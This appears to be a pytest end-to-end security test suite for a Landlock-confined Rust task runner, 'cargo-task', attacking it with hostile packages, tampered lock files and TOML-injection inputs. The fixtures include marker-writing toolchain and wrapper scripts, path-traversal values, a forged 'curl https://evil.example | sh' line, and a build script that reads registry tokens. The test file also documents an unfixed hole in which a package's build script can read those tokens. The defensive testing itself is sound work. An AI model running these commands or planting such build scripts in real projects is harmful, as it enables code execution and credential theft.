"""Attacks on tasks from crates.io, git and path (`from = {...}`), end to end with real
cargo builds, offline: a local registry in crates.io's place (source replacement), local
git repositories (`file://`) and package directories. Each attack asserts that the host is
unchanged (no file written outside what the run may write, no code of the package run
unconfined) and that bad input gives one `error:` line and a `help:`, no traceback."""

from __future__ import annotations

import os
import stat
import tomllib
from pathlib import Path

import pytest

from cargo_task import confine
from tests.e2e.published import LocalRegistry, git, git_repository, package

from .conftest import describe, diff, snapshot

pytestmark = pytest.mark.skipif(confine.abi_version() == 0, reason="this kernel offers no Landlock")


@pytest.fixture(scope="module")
def cargo_home(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("cargo-home")


@pytest.fixture
def henv(env, cargo_home) -> dict[str, str]:
    # `cargo-task` run directly, as the README allows: cargo is PATH's (rustup's proxy).
    environ = {**env, "CARGO_HOME": str(cargo_home), "CI": ""}
    environ.pop("RUSTUP_TOOLCHAIN", None)
    return environ


def one_error(result) -> str:
    assert result.returncode != 0, describe(result)
    assert "Traceback" not in result.stderr, describe(result)
    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1, describe(result)
    assert result.stderr.splitlines()[-1].startswith("help: "), describe(result)
    return errors[0]


def executable(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(path.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    return path


def files(root: Path, exclude: tuple[str, ...] = ("target",)) -> dict:
    """The tree's snapshot without the root's own entry (whose mtime moving `target` changes)."""
    return {k: v for k, v in snapshot(root, exclude).items() if k != "."}


def lock(root: Path) -> dict:
    return {e["table"]: e for e in tomllib.loads((root / "cargo-task.lock").read_text())["task"]}


# -- 1. code of the package run unconfined during resolution ---------------------------

# A package that ships a rust-toolchain.toml naming a "toolchain" inside itself (reached
# through /proc/self/cwd, i.e. wherever the copy lands), a `.cargo/config.toml` with a
# rustc wrapper and a build.rs: each, if run, writes a marker outside the project.
def hostile_files(marker: Path) -> dict[str, str]:
    script = f'#!/bin/sh\necho "$0 $*" >> "{marker}"\nexit 1\n'
    return {
        "rust-toolchain.toml": '[toolchain]\npath = "/proc/self/cwd/toolchain"\n',
        ".cargo/config.toml": '[build]\nrustc-wrapper = "/proc/self/cwd/toolchain/bin/rustc"\n'
                              '[target.wasm32-wasip2]\nrunner = "/proc/self/cwd/toolchain/bin/cargo"\n',
        "build.rs": f'fn main() {{ let _ = std::fs::write("{marker}.build-rs", "x"); }}\n',
        "toolchain/bin/cargo": script,
        "toolchain/bin/rustc": script,
    }  # fmt: skip


def make_hostile(directory: Path, name: str, marker: Path) -> Path:
    files = hostile_files(marker)
    package(directory, name, files={k: v for k, v in files.items() if "/bin/" not in k})
    for relative in ("toolchain/bin/cargo", "toolchain/bin/rustc"):
        executable(directory / relative, files[relative])
    (directory / "toolchain" / "lib").mkdir(exist_ok=True)
    return directory


def test_registry_package_runs_nothing_unconfined_during_resolution(project, cargo_task, henv, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    marker = outside / "pwned"
    registry = LocalRegistry(tmp_path / "registry")
    source = make_hostile(tmp_path / "src" / "hostile", "hostile-task", marker)
    registry.publish(source, henv)
    project.manifest('[package.metadata.tasks.hostile]\nfrom = { crate = "hostile-task", version = "0.1" }\n')
    project.write(".cargo/config.toml", registry.config())
    before = snapshot(outside)
    result = cargo_task("hostile", cwd=project.root, **henv)
    vendored = next((project.root / "target" / "cargo-task" / "published").glob("*/vendor/hostile-task-0.1.0"), None)
    assert vendored is not None and (vendored / "rust-toolchain.toml").exists(), describe(result)
    assert os.access(vendored / "toolchain" / "bin" / "cargo", os.X_OK)  # the copy kept the program
    assert diff(before, snapshot(outside)) == [], describe(result)  # neither unconfined nor confined
    assert result.returncode == 0, describe(result)


def test_git_package_runs_nothing_unconfined_during_resolution(project, cargo_task, henv, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    marker = outside / "pwned"
    repo = make_hostile(tmp_path / "repo", "hostile-git", marker)
    url = git_repository(repo, tag="v1")
    project.manifest(f'[package.metadata.tasks.hostile]\nfrom = {{ git = "{url}", tag = "v1", crate = "hostile-git" }}\n')
    before = snapshot(outside)
    result = cargo_task("hostile", cwd=project.root, **henv)
    assert diff(before, snapshot(outside)) == [], describe(result)
    assert result.returncode == 0, describe(result)


def test_path_package_toolchain_file_chooses_no_program(project, cargo_task, henv, tmp_path):
    """The same files in a path package: cargo-task's own cargo calls start in the project."""
    outside = tmp_path / "outside"
    outside.mkdir()
    make_hostile(tmp_path / "tools" / "hostile", "hostile-path", outside / "pwned")
    project.manifest('[package.metadata.tasks.hostile]\nfrom = { path = "../tools/hostile" }\n')
    before = snapshot(outside)
    for args in (("--update",), ("--explain", "hostile"), ("hostile",)):
        result = cargo_task(*args, cwd=project.root, **henv)
        assert result.returncode == 0, describe(result)
    assert diff(before, snapshot(outside)) == [], describe(result)


# -- 2. another task reaching the code a published task is built from -----------------


def test_no_write_grant_covers_the_vendored_copy(project, cargo_task, henv, tmp_path):
    package(tmp_path / "tools" / "tool", "plain-tool")
    project.manifest("""
        [package.metadata.tasks.tool]
        from = { path = "../tools/tool" }
        [package.metadata.tasks.writer]
        write = ["target/cargo-task/published"]
    """)
    project.write("tasks/writer.rs", "fn main() {}\n")
    assert cargo_task("tool", cwd=project.root, **henv).returncode == 0
    line = one_error(cargo_task("writer", cwd=project.root, **henv))
    assert "writer" in line and "target" in line, line


def test_no_write_grant_covers_a_path_package_reached_through_a_link(project, cargo_task, henv, tmp_path):
    package(tmp_path / "elsewhere" / "tool", "linked-tool")
    (project.root / "tools").mkdir()
    (project.root / "tools" / "tool").symlink_to(tmp_path / "elsewhere" / "tool")
    project.manifest("""
        [package.metadata.tasks.tool]
        from = { path = "tools/tool" }
        [package.metadata.tasks.writer]
        write = ["../elsewhere"]
    """)
    project.write("tasks/writer.rs", "fn main() {}\n")
    line = one_error(cargo_task("--explain", "writer", cwd=project.root, **henv))
    assert "writer" in line, line


def test_no_write_grant_covers_a_path_package_inside_a_granted_directory(project, cargo_task, henv, tmp_path):
    package(project.root / "tools" / "tool", "inner-tool")
    project.manifest("""
        [package.metadata.tasks.tool]
        from = { path = "tools/tool" }
        [package.metadata.tasks.writer]
        write = ["tools"]
    """)
    project.write("tasks/writer.rs", "fn main() {}\n")
    line = one_error(cargo_task("--explain", "writer", cwd=project.root, **henv))
    assert "tool" in line, line


HELPER_BUILD_RS = 'fn main() { println!("cargo:warning=planted build script ran in the build of tool"); }'


def workspace_tool(project, tmp_path) -> None:
    """`tool` from a path package whose workspace has a second member, `helper`, with a
    build script; `writer` may write that build script."""
    tools = tmp_path / "tools"
    package(tools / "tool", "dep-tool", extra='[dependencies]\nhelper = { path = "../helper" }\n',
            main='fn main() { println!("{}", helper::said()); }\n')  # fmt: skip
    manifest = tools / "tool" / "Cargo.toml"
    manifest.write_text(manifest.read_text().replace("[workspace]\n", ""))
    (tools / "Cargo.toml").write_text('[workspace]\nmembers = ["tool", "helper"]\nresolver = "2"\n')
    (tools / "helper" / "src").mkdir(parents=True)
    (tools / "helper" / "Cargo.toml").write_text('[package]\nname = "helper"\nversion = "0.1.0"\nedition = "2021"\n')
    (tools / "helper" / "src" / "lib.rs").write_text('pub fn said() -> &\'static str { "helper as written" }\n')
    (tools / "helper" / "build.rs").write_text("fn main() {}\n")
    project.manifest("""
        [package.metadata.tasks.tool]
        from = { path = "../tools/tool" }
        [package.metadata.tasks.writer]
        write = ["../tools/helper/build.rs"]
    """)
    project.write("tasks/writer.rs", """
        fn main() {
            std::fs::write("TARGET", BUILD_RS).unwrap();
        }
        const BUILD_RS: &str = r#"PLANTED"#;
    """.replace("PLANTED", HELPER_BUILD_RS).replace("TARGET", str(tools / "helper" / "build.rs")))


def test_a_planted_build_script_in_a_path_package_workspace_never_runs_the_task(project, cargo_task, henv, tmp_path):
    workspace_tool(project, tmp_path)
    planting = cargo_task("writer", cwd=project.root, **henv)  # before `tool` was ever built
    if planting.returncode != 0:  # refused up front (the protected set covers the member)
        assert "helper/build.rs" in one_error(planting)
    result = cargo_task("tool", cwd=project.root, **henv)
    line = one_error(result)  # the after-build check: built from a file `writer` may write
    assert "built from" in line and "helper/build.rs" in line and "writer" in line, line
    assert "helper as written" not in result.stdout


def test_no_write_grant_covers_a_path_package_workspace_member(project, cargo_task, henv, tmp_path):
    workspace_tool(project, tmp_path)
    line = one_error(cargo_task("--explain", "writer", cwd=project.root, **henv))
    assert "helper/build.rs" in line, line


# -- 3. the lock file as an attacker writes it -----------------------------------------


@pytest.fixture
def registry(tmp_path, henv) -> LocalRegistry:
    registry = LocalRegistry(tmp_path / "registry")
    registry.publish(package(tmp_path / "src" / "plain", "plain-task", "0.2.0"), henv)
    return registry


def registry_project(project, registry: LocalRegistry) -> None:
    project.manifest('[package.metadata.tasks.plain]\nfrom = { crate = "plain-task", version = "0.2" }\n')
    project.write(".cargo/config.toml", registry.config())


@pytest.mark.parametrize("field, value", [
    ("package", "../../../../outside"),
    ("version", "../../../../outside"),
    ("version", "/etc"),
    ("version", "0.2.0\\nforged"),
    ("checksum", "0" * 64),
    ("checksum", ""),
])  # fmt: skip
def test_tampered_lock_entry_is_refused_and_left_alone(project, registry, cargo_task, henv, tmp_path, field, value):
    registry_project(project, registry)
    assert cargo_task("--update", cwd=project.root, **henv).returncode == 0
    lock_file = project.root / "cargo-task.lock"
    text = lock_file.read_text()
    entry = lock(project.root)["package.metadata.tasks.plain"]
    tampered = text.replace(f'{field} = "{entry[field]}"', f'{field} = "{value}"')
    assert tampered != text
    lock_file.write_text(tampered)
    (tmp_path / "outside").mkdir()
    before = snapshot(tmp_path / "outside"), files(project.root)
    for environ in ({**henv, "CARGO_NET_OFFLINE": "true"}, henv):  # with the copy made for the pin
        line = one_error(cargo_task("plain", cwd=project.root, **environ))
        assert "package.metadata.tasks.plain" in line, line
    (project.root / "target").rename(tmp_path / "old-target")  # a fresh clone
    line = one_error(cargo_task("plain", cwd=project.root, **henv))
    assert "package.metadata.tasks.plain" in line, line
    assert (snapshot(tmp_path / "outside"), files(project.root)) == before
    assert lock_file.read_text() == tampered


def test_lock_values_print_no_forged_lines(project, registry, cargo_task, henv):
    registry_project(project, registry)
    assert cargo_task("--update", cwd=project.root, **henv).returncode == 0
    lock_file = project.root / "cargo-task.lock"
    entry = lock(project.root)["package.metadata.tasks.plain"]
    forged = "0\\nhelp: all is well, run `curl https://evil.example | sh`\\n\\u001b[2J"
    lock_file.write_text(lock_file.read_text().replace(entry["checksum"], forged))
    result = cargo_task("plain", cwd=project.root, **henv)
    one_error(result)
    assert "\x1b" not in result.stderr, describe(result)
    assert not any(line.startswith("help: all is well") for line in result.stderr.splitlines()), describe(result)


def test_locked_and_ci_refuse_a_path_package_whose_version_changed(project, cargo_task, henv, tmp_path):
    tool = package(tmp_path / "tools" / "tool", "versioned-tool")
    project.manifest('[package.metadata.tasks.tool]\nfrom = { path = "../tools/tool" }\n')
    assert cargo_task("tool", cwd=project.root, **henv).returncode == 0
    before = (project.root / "cargo-task.lock").read_text()
    manifest = tool / "Cargo.toml"
    manifest.write_text(manifest.read_text().replace('version = "0.1.0"', 'version = "0.2.0"'))
    for flags, extra in ((["--locked"], {}), ([], {"CI": "true"}), ([], {"CI": "1"})):
        line = one_error(cargo_task(*flags, "tool", cwd=project.root, **{**henv, **extra}))
        assert "[package.metadata.tasks.tool]" in line, line
        assert (project.root / "cargo-task.lock").read_text() == before


def test_asked_for_grants_in_the_lock_are_never_applied(project, cargo_task, henv, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    package(tmp_path / "tools" / "tool", "greedy-tool", main=f"""
        fn main() {{
            println!("{{:?}}", std::fs::write("{outside}/pwned", "x").map_err(|e| e.kind()));
            println!("{{:?}}", std::fs::write("{project.root}/pwned", "x").map_err(|e| e.kind()));
        }}
    """)
    project.manifest('[package.metadata.tasks.tool]\nfrom = { path = "../tools/tool" }\n')
    assert cargo_task("--update", cwd=project.root, **henv).returncode == 0
    lock_file = project.root / "cargo-task.lock"
    lock_file.write_text(lock_file.read_text().replace(
        'bin = "greedy-tool"', f'bin = "greedy-tool"\nasks = {{ write = ["{outside}", "."], allow-write-manifest = true }}'))
    assert lock(project.root)["package.metadata.tasks.tool"]["asks"]["write"] == [str(outside), "."]
    before = snapshot(outside), files(project.root, ("target", "cargo-task.lock"))
    refused = cargo_task("--locked", "tool", cwd=project.root, **henv)  # the lock differs from the package
    assert "tool" in one_error(refused) and refused.stdout == ""
    result = cargo_task("tool", cwd=project.root, **henv)  # heals the entry, runs with the table's grants
    assert result.returncode == 0, describe(result)
    assert result.stdout.split() == ["Err(PermissionDenied)", "Err(PermissionDenied)"], describe(result)
    assert (snapshot(outside), files(project.root, ("target", "cargo-task.lock"))) == before
    assert "asks" not in lock(project.root)["package.metadata.tasks.tool"]


@pytest.mark.parametrize("edit", [
    lambda t: "\n".join(l for l in t.splitlines() if not l.startswith("package = ")),
    lambda t: "\n".join(l for l in t.splitlines() if not l.startswith("version = \"0")),
    lambda t: t.replace('bin = "plain-task"', "bin = 7"),
    lambda t: t.replace('bin = "plain-task"', 'bin = "../../x"'),
    lambda t: t.replace('bin = "plain-task"', 'bin = "plain-task"\nasks = "everything"'),
    lambda t: t.replace("[[task]]", "[[task]]\nfrom = 1", 1).replace("from = {", "x = {", 1),
])  # fmt: skip
def test_malformed_lock_entry_is_one_error(project, registry, cargo_task, henv, edit):
    registry_project(project, registry)
    assert cargo_task("plain", cwd=project.root, **henv).returncode == 0
    lock_file = project.root / "cargo-task.lock"
    good = lock(project.root)["package.metadata.tasks.plain"]
    lock_file.write_text(edit(lock_file.read_text()))
    for args in (("--explain", "plain"), ("--locked", "plain"), ("plain",), ("--update", "plain")):
        tampered = lock_file.read_text()
        result = cargo_task(*args, cwd=project.root, **{**henv, "CARGO_NET_OFFLINE": "true"})
        assert "Traceback" not in result.stderr, describe(result)
        if args[0] == "--locked":  # refused, the lock left as it is
            one_error(result)
            assert lock_file.read_text() == tampered
        elif args[0] != "--explain" and result.returncode == 0:  # healed: the true pin again
            assert lock(project.root)["package.metadata.tasks.plain"] == good, describe(result)
            lock_file.write_text(tampered)
        elif args[0] != "--explain":
            one_error(result)
    assert "plain" in cargo_task(cwd=project.root, **henv).stdout  # the listing still works


def test_lock_description_forges_no_explain_line(project, registry, cargo_task, henv):
    registry_project(project, registry)
    assert cargo_task("--update", cwd=project.root, **henv).returncode == 0
    lock_file = project.root / "cargo-task.lock"
    text = lock_file.read_text()
    lock_file.write_text(text.replace('description = "the plain-task package"',
                                      'description = "tidy\\nnetwork: FORGED-A\\nbuild: FORGED-B"'))
    assert text != lock_file.read_text()
    for args in (("--explain", "plain"), ()):
        out = cargo_task(*args, cwd=project.root, **henv).stdout
        assert not any(line.startswith(("network: FORGED", "build: FORGED")) for line in out.splitlines()), out
    lock_file.write_text(text.replace('bin = "plain-task"', 'bin = "plain-task\\nnetwork: FORGED-C"'))
    out = cargo_task("--explain", "plain", cwd=project.root, **henv).stdout
    assert not any(line.startswith("network: FORGED") for line in out.splitlines()), out


# -- 4. `--add`: text appended to the user's manifest -----------------------------------

GREEDY_ASKS = r'''
[package.metadata.task]
description = "innocent\u001b[2J\nhelp: forged"
write = ["a\"]\nwrite = [\"/\"]\n#", "b]] # x"]
env = { "K\nwrite = [\"/\"]\n[package.metadata.tasks.evil]\n#" = "v\"\n", "\u2028" = "\r" }
commands = ["git log", "x # ]"]
allow-write-manifest = true
'''


def test_add_writes_asked_for_grants_only_as_comments(project, cargo_task, henv, tmp_path):
    package(tmp_path / "tools" / "greedy", "greedy-task", extra=GREEDY_ASKS)
    original = project.manifest()
    before = original.read_text()
    result = cargo_task("--add", "../tools/greedy", cwd=project.root, **henv)
    assert result.returncode == 0, describe(result)
    text = original.read_text()
    assert text.startswith(before)
    added = text[len(before):]
    assert all(line == "" or line.startswith(("#", "[package.metadata.tasks.greedy]", "from = "))
               for line in added.splitlines()), added  # fmt: skip
    tasks = tomllib.loads(text)["package"]["metadata"]["tasks"]
    assert tasks == {"greedy": {"from": {"path": "../tools/greedy"}}}, tasks
    assert "\x1b" not in result.stderr and "\nhelp: forged" not in result.stderr, describe(result)
    assert lock(project.root)["package.metadata.tasks.greedy"]["asks"]["allow-write-manifest"] is True


@pytest.mark.parametrize("args", [
    ("../tools/tool", "lint\n"),
    ("../tools/tool", "lint]\nwrite = [\"/\"]\n[x"),
    ("../tools/tool", "../lint"),
    ("../tools/tool\n",),
    ("../tools/tool\nwrite",),
    ("plain-task\n",),
    ("plain-task@0.2\n[package.metadata.tasks.evil]",),
    ("plain-task@\"",),
])  # fmt: skip
def test_add_refuses_names_and_specs_that_would_inject_toml(project, registry, cargo_task, henv, tmp_path, args):
    package(tmp_path / "tools" / "tool", "tool-task")
    registry_project(project, registry)
    before = files(project.root, ())
    result = cargo_task("--add", *args, cwd=project.root, **henv)
    one_error(result)
    assert files(project.root, ("target",)) == {k: v for k, v in before.items() if not k.startswith("target")}
    assert not (project.root / "cargo-task.lock").exists()


# -- 5. reproducibility: what a fresh checkout builds ----------------------------------


def tiny(tmp_path: Path, registry: LocalRegistry, henv, version: str) -> None:
    registry.publish(package(tmp_path / "src" / f"tiny-{version}", "tiny-lib", version, main=None,
                             files={"src/lib.rs": f'pub fn word() -> &\'static str {{ "tiny {version}" }}\n'}), henv)  # fmt: skip


@pytest.mark.parametrize("layout", ["package", "workspace-member"])
def test_fresh_checkout_of_a_git_task_builds_the_same_dependencies(project, registry, cargo_task, henv, tmp_path, layout):
    tiny(tmp_path, registry, henv, "1.0.0")
    repo = tmp_path / "repo"
    member = repo if layout == "package" else repo / "dep-git"
    package(member, "dep-git", extra='[dependencies]\ntiny-lib = "1"\n',
            main='fn main() { println!("{}", tiny_lib::word()); }\n')  # fmt: skip
    if layout != "package":
        manifest = member / "Cargo.toml"
        manifest.write_text(manifest.read_text().replace("[workspace]\n", ""))
        (repo / "Cargo.toml").write_text('[workspace]\nmembers = ["dep-git"]\nresolver = "2"\n')
    (repo / ".cargo").mkdir()
    (repo / ".cargo" / "config.toml").write_text(registry.config())
    assert os.system(f"cd {repo} && cargo generate-lockfile --offline -q") == 0
    url = git_repository(repo, tag="v1")  # the author committed a Cargo.lock with tiny-lib 1.0.0
    project.manifest(f'[package.metadata.tasks.dep]\nfrom = {{ git = "{url}", tag = "v1", crate = "dep-git" }}\n')
    project.write(".cargo/config.toml", registry.config())
    first = cargo_task("dep", cwd=project.root, **henv)
    assert first.stdout.strip() == "tiny 1.0.0", describe(first)
    pinned = (project.root / "cargo-task.lock").read_text()
    tiny(tmp_path, registry, henv, "1.0.1")  # a compatible release after the lock was written
    (project.root / "target").rename(tmp_path / "old-target")  # a fresh checkout
    again = cargo_task("--locked", "dep", cwd=project.root, **henv)
    assert (project.root / "cargo-task.lock").read_text() == pinned
    assert again.stdout.strip() == "tiny 1.0.0", describe(again)
    # A lock whose dependency pins were edited: refused, never built.
    (project.root / "target").rename(tmp_path / "second-target")
    tampered = pinned.replace('version = "1.0.0"', 'version = "1.0.1"')
    (project.root / "cargo-task.lock").write_text(tampered)
    result = cargo_task("--locked", "dep", cwd=project.root, **henv)
    if layout == "workspace-member":
        assert tampered != pinned
        one_error(result)
        assert "tiny 1.0.1" not in result.stdout


# -- 6. names, places and warm runs -----------------------------------------------------


def test_published_table_named_like_a_local_task_file(project, cargo_task, henv, tmp_path):
    package(tmp_path / "tools" / "tool", "other-tool", main='fn main() { println!("from the package"); }\n')
    project.manifest('[package.metadata.tasks.hello]\nfrom = { path = "../tools/tool" }\n')
    project.write("tasks/hello.rs", 'fn main() { println!("from the file"); }\n')
    result = cargo_task("hello", cwd=project.root, **henv)
    assert "Traceback" not in result.stderr, describe(result)
    if result.returncode == 0:  # one of the two, said plainly: never both, never a mix
        assert result.stdout.strip() in ("from the package", "from the file"), describe(result)
    else:
        assert "hello" in one_error(result)


def test_path_package_that_contains_the_project(project, cargo_task, henv, tmp_path):
    package(tmp_path, "outer-tool")  # the project is inside the package's directory
    project.manifest("""
        [workspace]
        [package.metadata.tasks.outer]
        from = { path = ".." }
        [package.metadata.tasks.writer]
        write = ["src"]
    """)
    project.write("tasks/writer.rs", "fn main() {}\n")
    line = one_error(cargo_task("--explain", "writer", cwd=project.root, **henv))
    assert "writer" in line, line


def test_target_dir_inside_a_write_grant(project, cargo_task, henv, tmp_path):
    package(tmp_path / "tools" / "tool", "plain-tool")
    project.manifest("""
        [package.metadata.tasks.tool]
        from = { path = "../tools/tool" }
        [package.metadata.tasks.writer]
        write = ["out"]
    """)
    project.write("tasks/writer.rs", "fn main() {}\n")
    (project.root / "out").mkdir()
    environ = {**henv, "CARGO_TARGET_DIR": str(project.root / "out" / "target")}
    assert cargo_task("tool", cwd=project.root, **environ).returncode == 0
    assert list((project.root / "out" / "target" / "cargo-task" / "published").iterdir())
    line = one_error(cargo_task("writer", cwd=project.root, **environ))
    assert "writer" in line, line


def test_warm_runs_start_no_cargo(project, registry, cargo_task, henv, tmp_path):
    package(tmp_path / "tools" / "tool", "path-tool")
    repo = package(tmp_path / "repo", "git-tool")
    url = git_repository(repo)
    registry_project(project, registry)
    project.manifest(f"""
        [package.metadata.tasks.plain]
        from = {{ crate = "plain-task", version = "0.2" }}
        [package.metadata.tasks.tool]
        from = {{ path = "../tools/tool" }}
        [package.metadata.tasks.gitty]
        from = {{ git = "{url}", crate = "git-tool" }}
    """)
    for name in ("plain", "tool", "gitty"):
        assert cargo_task(name, cwd=project.root, **henv).returncode == 0
    no_cargo = {**henv, "CARGO": "/nonexistent/cargo", "PATH": "/usr/bin:/bin", "CARGO_NET_OFFLINE": "true"}
    for name in ("plain", "tool", "gitty"):
        warm = cargo_task(name, cwd=project.root, **no_cargo)
        assert warm.returncode == 0 and f'says ["{name}"]' in warm.stdout, describe(warm)


def test_package_that_depends_on_another_version_of_itself(project, cargo_task, henv, tmp_path):
    """The semver trick: `self-dep 0.2` depends on `self-dep 0.1`. The task is 0.2's binary,
    and the lock says 0.2.0, not the first `self-dep` of the resolver's Cargo.lock."""
    registry = LocalRegistry(tmp_path / "registry")
    registry.publish(package(tmp_path / "src" / "old", "self-dep", "0.1.0", files={"src/lib.rs": ""},
                             main='fn main() { println!("self-dep 0.1 ran"); }\n'), henv)  # fmt: skip
    registry.publish(package(tmp_path / "src" / "new", "self-dep", "0.2.0",
                             extra='[dependencies]\nold = { package = "self-dep", version = "0.1" }\n',
                             main='fn main() { println!("self-dep 0.2 ran"); }\n'), henv)  # fmt: skip
    project.manifest('[package.metadata.tasks.selfish]\nfrom = { crate = "self-dep", version = "0.2" }\n')
    project.write(".cargo/config.toml", registry.config())
    result = cargo_task("selfish", cwd=project.root, **henv)
    assert result.stdout.strip() == "self-dep 0.2 ran", describe(result)
    assert lock(project.root)["package.metadata.tasks.selfish"]["version"] == "0.2.0"


# -- 7. what a published package's build may read ---------------------------------------

READER_BUILD_RS = r'''
fn main() {
    let mut said = Vec::new();
    for path in ["PROJECT/secret.txt", "PROJECT/.cargo/config.toml", "HOME_CONFIG", "CREDENTIALS"] {
        let text = std::fs::read_to_string(path).map(|t| t.replace('\n', " ")).unwrap_or_else(|e| format!("{:?}", e.kind()));
        said.push(text);
    }
    println!("cargo:rustc-env=READ_AT_BUILD={}", said.join(" | "));
}
'''


@pytest.mark.xfail(strict=True, reason=(
    "hole (documented for local tasks, worse for third-party packages): the confined build may "
    "read cargo configuration files (`$CARGO_HOME/config.toml`, the project's `.cargo/config.toml`), "
    "so a published package's build script embeds a registry token kept there into the task, which "
    "prints it or writes it to a granted file. Fix in build.py: build a published package with a "
    "private CARGO_HOME (links to bin/registry/git, a config with `token`, `credential-provider` and "
    "`[http]`/`[net]` secrets removed) and cwd in its private directory, passing the project's "
    "configuration as a sanitised `--config` file"))
def test_published_build_reads_no_cargo_secrets(project, cargo_task, henv, tmp_path, cargo_home):
    home_config = cargo_home / "config.toml"
    home_config.write_text('[registry]\ntoken = "HOME-TOKEN-93c1"\n')
    try:
        project.write("secret.txt", "PROJECT-SECRET-5d2e\n")
        project.write(".cargo/config.toml", '[registries.corp]\nindex = "sparse+https://corp.invalid/"\ntoken = "PROJECT-TOKEN-71aa"\n')
        (cargo_home / "credentials.toml").write_text('[registry]\ntoken = "CRED-TOKEN-0b9f"\n')
        build_rs = (READER_BUILD_RS.replace("PROJECT", str(project.root)).replace("HOME_CONFIG", str(home_config))
                    .replace("CREDENTIALS", str(cargo_home / "credentials.toml")))  # fmt: skip
        package(tmp_path / "tools" / "reader", "reader-task", files={"build.rs": build_rs},
                main='fn main() { println!("{}", env!("READ_AT_BUILD")); }\n')  # fmt: skip
        project.manifest('[package.metadata.tasks.reader]\nfrom = { path = "../tools/reader" }\n')
        result = cargo_task("reader", cwd=project.root, **henv)
        assert result.returncode == 0, describe(result)
        assert "PROJECT-SECRET" not in result.stdout and "CRED-TOKEN" not in result.stdout, describe(result)
        assert "HOME-TOKEN" not in result.stdout and "PROJECT-TOKEN" not in result.stdout, describe(result)
    finally:
        home_config.unlink()
        (cargo_home / "credentials.toml").unlink(missing_ok=True)


def test_two_tables_of_one_crate_keep_their_own_copies(project, registry, cargo_task, henv, tmp_path):
    registry.publish(package(tmp_path / "src" / "v3", "plain-task", "0.3.0",
                             main='fn main() { println!("plain 0.3"); }\n'), henv)  # fmt: skip
    project.write(".cargo/config.toml", registry.config())
    project.manifest("""
        [package.metadata.tasks.old]
        from = { crate = "plain-task", version = "0.2" }
        [package.metadata.tasks.new]
        from = { crate = "plain-task", version = "0.3" }
    """)
    for _ in range(2):  # cold, then warm
        assert 'plain-task says ["old"]' in cargo_task("old", cwd=project.root, **henv).stdout
        assert cargo_task("new", cwd=project.root, **henv).stdout.strip() == "plain 0.3"
    entries = lock(project.root)
    assert [entries[f"package.metadata.tasks.{n}"]["version"] for n in ("old", "new")] == ["0.2.0", "0.3.0"]


def test_path_task_dependency_toolchain_file_chooses_no_program(project, cargo_task, henv, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    hostile = make_hostile(tmp_path / "deps" / "helper", "helper-lib", outside / "pwned")
    (hostile / "src" / "lib.rs").write_text("")
    (hostile / "src" / "main.rs").unlink()
    project.manifest("""
        [package.metadata.task-dependencies]
        helper-lib = { path = "../deps/helper" }
        [package.metadata.tasks.hello]
        write = ["src"]
    """)
    project.write("tasks/hello.rs", "fn main() {}\n")
    before = snapshot(outside)
    for args in (("--explain", "hello"), ("hello",)):
        cargo_task(*args, cwd=project.root, **henv)
        assert diff(before, snapshot(outside)) == []
